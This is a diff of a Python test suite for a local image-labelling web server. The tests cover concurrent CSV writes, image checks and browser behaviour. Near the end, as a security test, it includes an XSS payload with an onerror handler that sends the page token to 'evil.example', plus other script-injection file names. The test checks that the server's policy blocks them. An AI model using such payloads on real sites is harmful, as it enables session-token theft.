@@ -9,6 +9,7 @@ import os
 import re
 import socket
 import threading
+import time
 import urllib.error
 import urllib.request
 from pathlib import Path
@@ -17,7 +18,8 @@ import pytest
 from PIL import Image
 
 import label
-from support import clicks, label_guard, layout, rasters
+import train
+from support import clicks, label_file, label_guard, layout, maps, rasters
 from support.cli import DataError
 from tools.figures import BROWSER_FLAGS, open_label_page, screenshot
 
@@ -64,7 +66,7 @@ def change(base, server, click, **headers):
     return request(base + "/change", json.dumps(click).encode(), {**page, **headers})[0]
 
 
-def test_label_server_saves_reloads_and_refuses_bad_requests(label_server, tmp_path, capsys):
+def test_label_server_saves_reloads_and_refuses_bad_requests(label_server, capsys):
     base, points, server = label_server
     state = json.loads(request(base + "/state")[1])
     assert [i["name"] for i in state["images"]] == ["square.jpg", "sub/wide.png"]
@@ -106,9 +108,7 @@ def test_label_server_saves_reloads_and_refuses_bad_requests(label_server, tmp_p
     # a click on a point removes it; a new server (a reload) shows what was saved
     change(base, server, {"image": "sub/wide.png", "x": 80, "y": 5})
     again = label.Labels(server.labels.root, points, None, None, 3)
-    assert len(again.clicks()) == 40 and ("sub/wide.png", 80, 5) not in [r[:3] for r in again.rows]
-    named = label.Labels(server.labels.root, tmp_path / "new.csv", "Water, Land,Road", None, 3)
-    assert named.names == ["Land", "Road", "Water"] and named.clicks() == []  # sorted, as train.py sorts them
+    assert len(again.clicks()) == 40 and ("sub/wide.png", 80, 5) not in [r[:3] for r in again.rows if r]
 
 
 def test_label_server_saves_checks_and_removes_strokes(label_server, tmp_path, capsys):
@@ -324,6 +324,158 @@ def test_label_blind_mode_shows_and_takes_the_sample_points_only(label_server, t
     assert sample.read_bytes() == text.replace(",3,4,,2", ",3,4,Road,2").encode()
 
 
+def test_label_servers_on_one_file_keep_each_others_rows(label_server):
+    base, points, server = label_server
+    other = label.Labels(server.labels.root, points, None, None, 3)  # a second label.py on the same file
+
+    def clicks_of(labels, x):
+        for y in range(15):
+            labels.change({"image": "square.jpg", "x": x, "y": y, "class": "Water"})
+
+    both = [threading.Thread(target=clicks_of, args=pair) for pair in [(server.labels, 1), (other, 2)]]
+    for t in both:
+        t.start()
+    for t in both:
+        t.join()
+    with open(points, "a") as f:  # a person adds a row by hand: the next click keeps it
+        f.write("sub/wide.png,9,9,Road\n")
+    assert change(base, server, {"image": "sub/wide.png", "x": 1, "y": 1, "class": "Water"}) == 200
+    rows = list(csv.reader(open(points)))[1:]
+    assert len(rows) == 32 and {(r[1], r[2]) for r in rows[:30]} == {(str(x), str(y)) for x in (1, 2)
+                                                                     for y in range(15)}
+    assert rows[30:] == [["sub/wide.png", "9", "9", "Road"], ["sub/wide.png", "1", "1", "Water"]]
+    # a page that has not seen them gets them all; one that has, what its change made
+    assert "state" in label_saved(base, server, {"image": "square.jpg", "x": 7, "y": 7})
+    seen = json.loads(request(base + "/state")[1])["version"]
+    road = {"image": "square.jpg", "x": 7, "y": 7, "class": "Road"}
+    assert label_saved(base, server, road | {"version": seen}) == {"clicks": [road], "version": seen + 1}
+    # a hand edit the page cannot read: a 409 with its reason, and the file as the person left it
+    with open(points, "a") as f:
+        f.write("square.jpg,3,3,Lava\n")
+    text = points.read_text()
+    assert change(base, server, {"image": "square.jpg", "x": 4, "y": 4, "class": "Water"}) == 409
+    assert points.read_text() == text
+
+
+def label_saved(base, server, click):
+    """POST a change as the page does -> what the server answers (JSON)."""
+    page = {"Content-Type": "application/json", "X-Token": server.token}
+    status, body = request(base + "/change", json.dumps(click).encode(), page)
+    assert status == 200, body
+    return json.loads(body)
+
+
+def test_label_server_checks_each_click_against_the_image_as_it_is_now(label_server, capsys):
+    base, points, server = label_server
+    wide = server.labels.root / "sub" / "wide.png"
+    Image.new("RGB", (45, 30)).save(wide)  # re-exported smaller while the page is open
+    capsys.readouterr()
+    assert change(base, server, {"image": "sub/wide.png", "x": 80, "y": 5, "class": "Road"}) == 400
+    assert change(base, server, {"image": "sub/wide.png", "x": 40, "y": 5, "class": "Road"}) == 200
+    wide.unlink()  # gone: one line, nothing written
+    assert change(base, server, {"image": "sub/wide.png", "x": 41, "y": 5, "class": "Road"}) == 409
+    log = capsys.readouterr().err.splitlines()
+    assert "(80, 5) is outside sub/wide.png (45x30)" in log[0] and "409, message not saved: " in log[2]
+    assert points.read_text() == "image,x,y,class\nsub/wide.png,40,5,Road\n"
+
+
+def test_label_server_saves_a_click_without_going_through_every_row(label_server, tmp_path, monkeypatch):
+    root = label_server[2].labels.root
+    big = tmp_path / "big.csv"  # 50,000 rows: making each again in Python takes a tenth of a second
+    big.write_text("image,x,y,class\n" + "".join(f"square.jpg,{i % 96},{i // 96 % 96},Water\n"
+                                                 for i in range(50_000)))
+    labels = label.Labels(root, big, None, None, 3)
+    monkeypatch.setattr(os, "fsync", lambda handle: None)  # the disk's time is not the code's
+    took = []
+    for x in range(5):  # as the page sends them: with the version of the clicks it shows
+        start = time.perf_counter()
+        road = {"image": "sub/wide.png", "x": x, "y": 0, "class": "Road"}
+        saved = labels.change(road | {"version": labels.version})
+        took.append(time.perf_counter() - start)
+        assert saved["clicks"] == [road]
+    assert sorted(took)[2] < 0.02, took
+    text = big.read_text().splitlines()
+    assert len(text) == 50_006 and text[-1] == "sub/wide.png,4,0,Road" and text[1] == "square.jpg,0,0,Water"
+    monkeypatch.setattr(label_file, "ROWS", 10_000)  # past the limit: one line saying what to do
+    with pytest.raises(DataError, match="50,005 rows, and the page opens 10,000 at most: click into a new"):
+        label.Labels(root, big, None, None, 3)
+
+
+def test_label_server_reads_and_writes_back_a_field_of_any_length(label_server):
+    root, points = label_server[2].labels.root, label_server[1]
+    wkt = "POLYGON ((" + ", ".join(f"{i} {i}" for i in range(15_770)) + "))"  # 166,520 characters
+    points.write_text(f'image,x,y,class,wkt\nsquare.jpg,1,2,Water,"{wkt}"\n')
+    labels = label.Labels(root, points, None, None, 3)
+    labels.change({"image": "square.jpg", "x": 3, "y": 4, "class": "Road"})
+    assert points.read_text() == f'image,x,y,class,wkt\nsquare.jpg,1,2,Water,"{wkt}"\nsquare.jpg,3,4,Road,\n'
+    assert clicks.read_table(points)[0][0]["wkt"] == wkt  # and train.py's reader
+
+
+def test_label_server_answers_huge_images_and_odd_names_in_one_line(label_server, monkeypatch, capsys):
+    base, points, server = label_server
+    root = server.labels.root
+
+    def too_large(path):  # what a header declaring 30000x30000 pixels ends in, where memory is short
+        raise MemoryError()
+
+    monkeypatch.setattr(rasters, "read_scene", too_large)
+    capsys.readouterr()
+    assert request(base + "/image/0")[0] == 422 and request(base + "/state")[0] == 200  # and still serving
+    assert "422, message " in capsys.readouterr().err.splitlines()[0]
+    monkeypatch.undo()
+    # an image whose name is not UTF-8: left out, in one line (a clicks file could not name it)
+    Image.new("RGB", (8, 8)).save(root / os.fsdecode(b"caf\xe9.png"))
+    labels = label.Labels(root, points, None, None, 3)
+    assert [n for n, _ in labels.files] == ["square.jpg", "sub/wide.png"]
+    assert capsys.readouterr().out.count("its name is not UTF-8: rename it") == 1
+
+
+def test_label_server_maps_each_image_once(label_server, tiny_run, tmp_path, monkeypatch):
+    root, passes, mapped = label_server[2].labels.root, [], maps.map_in_blocks
+    monkeypatch.setattr(maps, "map_in_blocks", lambda *a, **k: passes.append(1) or mapped(*a, **k))
+    with serving(root, "--labels", tmp_path / "new.csv", "--ckpt", tiny_run[1] / "ckpt.pt") as (base, server):
+        for i in [0, 1, 0, 1]:  # an image, the next, back: the page asks for map and suggestions at once
+            asked = [threading.Thread(target=request, args=(f"{base}/{what}/{i}",))
+                     for what in ("image", "map", "suggestions")]
+            for t in asked:
+                t.start()
+            for t in asked:
+                t.join()
+        assert len(json.loads(request(base + "/suggestions/1")[1])) > 0
+    assert len(passes) == 2
+
+
+def test_label_classes_keep_the_order_given_saved_beside_the_clicks_for_train(tmp_path, capsys):
+    root, points = tmp_path / "photos", tmp_path / "work" / "clicks.csv"
+    root.mkdir()
+    Image.new("RGB", (40, 30)).save(root / "a.png")
+    names = ["Water", "Land", "Road", "Building", "Vegetation"]
+    with serving(root, "--labels", points, "--classes", ",".join(names)) as (base, server):
+        state = json.loads(request(base + "/state")[1])
+        assert change(base, server, {"image": "a.png", "x": 1, "y": 1, "class": "Road"}) == 200
+    assert [c["name"] for c in state["classes"]] == names  # key 1 is Water
+    # the usual colours: water blue, bare land tan, roads grey, buildings red, vegetation green
+    colours = ["#1F77B4", "#D2B48C", "#7F7F7F", "#D62728", "#2CA02C"]
+    assert [c["colour"] for c in state["classes"]] == colours
+    assert f"-> {points.parent / 'classes.json'}" in capsys.readouterr().out
+    rgb = [layout.hex_to_rgb(h) for h in colours]
+    assert layout.read_classes(points.parent) == (names, rgb)
+    # the next start needs no --classes, takes the same again, and refuses others in one line
+    for given in [None, ",".join(names)]:
+        labels = label.Labels(root, points, given, None, 3)
+        assert (labels.names, labels.colours) == (names, rgb)
+    with pytest.raises(DataError, match="classes.json names others .* leave --classes out"):
+        label.Labels(root, points, "Land,Water", None, 3)
+    # train.py from these clicks, with no ROOT/classes.json: the page's order and colours
+    run = layout.run_data(train.get_args(["--data", str(root), "--point-labels", str(points)]), root)
+    assert (run["classes"], run["colours"]) == (names, rgb) and run["points"] == [(0, 1, 1, 2)]
+
+
+def test_label_takes_the_clicks_file_by_train_flag_name():
+    for flag in ["--point-labels", "--labels", "--points"]:  # train.py's names; --points as before
+        assert label.get_args(["photos", flag, "clicks.csv"]).labels == "clicks.csv"
+
+
 def chromium_missing():
     return importlib.util.find_spec("playwright") is None or not Path("/usr/bin/chromium").exists()
 
@@ -337,8 +489,19 @@ def chromium():
 
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=BROWSER_FLAGS)
-        yield browser
+        yield Tabs(browser)
         browser.close()
+
+
+class Tabs:
+    """The browser, whose new tabs set the page's policy aside: Playwright's wait_for_function evaluates
+    its text in the page, which the policy forbids. The policy's own test opens a tab of .browser."""
+
+    def __init__(self, browser):
+        self.browser = browser
+
+    def new_page(self, **options):
+        return self.browser.new_page(**{"bypass_csp": True, **options})
 
 
 def click_on_the_page(page):
@@ -515,3 +678,80 @@ def test_label_page_in_a_browser_blind_mode_labels_point_after_point(chromium, l
     assert [u for u in asked if "/map" in u or "/suggestions" in u or "/change" in u] == [base + "/change"]
     assert sample.read_text() == "image,x,y,class,sample\nsub/wide.png,80,5,,2\nsquare.jpg,10,20,Road,1\n" \
         "square.jpg,50,60,,3\n"
+
+
+# a name that runs script where a page inserts it as HTML: it sets a flag and sends the token elsewhere
+HOSTILE = "<img src=x onerror=\"window.ran = 1; fetch('http://evil.example/' + TOKEN)\">"
+
+
+def test_label_page_in_a_browser_shows_names_as_text_and_runs_no_other_script(chromium, tmp_path):
+    root = tmp_path / "photos"
+    root.mkdir()
+    image = "<img src=y onerror=window.ran=2>.png"
+    Image.new("RGB", (40, 30)).save(root / image)
+    classes = [{"title": HOSTILE, "color": "#FF0000"}, {"title": "Road", "color": "#808080"}]
+    (root / "classes.json").write_text(json.dumps({"classes": classes}))
+    points = tmp_path / "clicks.csv"
+    with serving(root, "--labels", points) as (base, server):
+        with urllib.request.urlopen(base + "/", timeout=30) as r:
+            policy = r.headers["Content-Security-Policy"]
+        assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy
+        page, asked, said = chromium.browser.new_page(), [], []  # the policy as a person's browser keeps it
+        page.on("request", lambda r: asked.append(r.url))
+        page.on("console", lambda m: said.append(m.text))
+        for _ in range(2):  # as it opens; then with a click of that class in the file, after a reload
+            page.goto(f"{base}/#token={server.token}")
+            page.wait_for_selector("#classes .class")
+            page.wait_for_selector("#title:not(:empty)")
+            if not points.exists():
+                page.keyboard.press("1")
+                box = page.locator("canvas").bounding_box()
+                page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
+                page.wait_for_selector("#status:not(:empty)")
+        assert page.text_content("#classes").startswith(f"1 {HOSTILE} (1 / 1)")  # as text
+        assert image in page.text_content("#title") and page.evaluate("document.images.length") == 0
+        assert list(csv.reader(open(points)))[1] == [image, "20", "15", HOSTILE]
+        # and HTML that would reach the page runs nothing: the policy refuses its inline handler
+        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=z onerror=\"window.ran=3\">')")
+        page.wait_for_timeout(500)
+        assert page.evaluate("window.ran") is None
+        assert any("Content Security Policy" in line for line in said)
+        page.close()
+    assert asked and all(url.startswith(base + "/") for url in asked)  # nothing left for another site
+
+
+def test_label_page_in_a_browser_keeps_what_another_page_or_a_person_wrote(chromium, label_server):
+    base, points, server = label_server
+    with serving(server.labels.root, "--labels", points) as (other, second):  # a second label.py, same file
+        pages = [open_label_page(chromium, f"{address}/#token={s.token}", image=1)
+                 for address, s in [(base, server), (other, second)]]
+        box = pages[0].locator("canvas").bounding_box()
+        scale = box["width"] / 90  # CSS pixels per image pixel of sub/wide.png, 90x60
+        for k in range(6):  # one page, the other, in turn: 6 clicks made
+            page, x = pages[k % 2], 10 * k + 5
+            page.mouse.click(box["x"] + (x + 0.5) * scale, box["y"] + 20.5 * scale)
+            page.wait_for_function(f"S.clicks.some(c => c.x === {x})")
+        assert len(list(csv.reader(open(points)))) == 1 + 6  # 6 kept
+        assert pages[1].evaluate("S.clicks.length") == 6  # and the page shows them: the other's too
+        with open(points, "a") as f:  # a person adds a row by hand
+            f.write("square.jpg,1,1,Water\n")
+        pages[0].mouse.click(box["x"] + 80.5 * scale, box["y"] + 40.5 * scale)
+        pages[0].wait_for_function("S.clicks.length === 8")
+        rows = list(csv.reader(open(points)))[1:]
+        assert rows[6:] == [["square.jpg", "1", "1", "Water"], ["sub/wide.png", "80", "40", "Water"]]
+        for page in pages:
+            page.close()
+
+
+def test_label_page_in_a_browser_says_why_an_image_cannot_be_shown(chromium, label_server, monkeypatch):
+    base, points, server = label_server
+
+    def too_large(path):  # what a header declaring 30000x30000 pixels ends in, where memory is short
+        raise MemoryError()
+
+    monkeypatch.setattr(rasters, "read_scene", too_large)
+    page = chromium.new_page()
+    page.goto(f"{base}/#token={server.token}")
+    page.wait_for_function("document.getElementById('status').textContent.startsWith('image 1: 422 ')")
+    assert "96x96 pixels, more than the memory free" in page.text_content("#status")
+    page.close()
